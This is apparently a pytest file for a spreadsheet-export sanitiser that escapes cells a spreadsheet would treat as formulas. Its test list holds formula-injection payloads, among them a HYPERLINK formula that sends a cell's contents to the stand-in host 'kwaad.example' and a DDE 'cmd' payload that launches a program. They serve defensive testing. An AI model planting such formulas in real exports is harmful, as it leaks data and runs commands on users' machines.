"""Cells of spreadsheets: text stays text, whatever somebody typed."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from samenspraak.kit.sheets import cell, lines

FORMULAS = [
    '=HYPERLINK("https://kwaad.example/?"&A1)',
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_would_be_a_formula_is_text(typed: str) -> None:
    assert cell(typed) == f"'{typed}"


@pytest.mark.parametrize("typed", ["Een bankje", "1 = 1", "€ 5", "", "«=»", "é"])
def test_other_text_stays_as_it_is(typed: str) -> None:
    assert cell(typed) == typed


def test_numbers_stay_numbers() -> None:
    assert [cell(value) for value in (-5, 2.5, None, True)] == ["-5", "2.5", "", "ja"]


def test_quotes_commas_and_line_ends_stay_in_their_cell() -> None:
    row = ['a","=1+1', "b\r\n=1+1", "c;=1+1"]
    text = "".join(lines(["een", "twee", "drie"], [row])).lstrip("\ufeff")
    assert list(csv.reader(StringIO(text, newline=""))) == [["een", "twee", "drie"], row]


def test_a_name_of_a_column_is_no_formula_either() -> None:
    assert "".join(lines(["=1+1"], [])).strip("\ufeff\r\n") == "'=1+1"
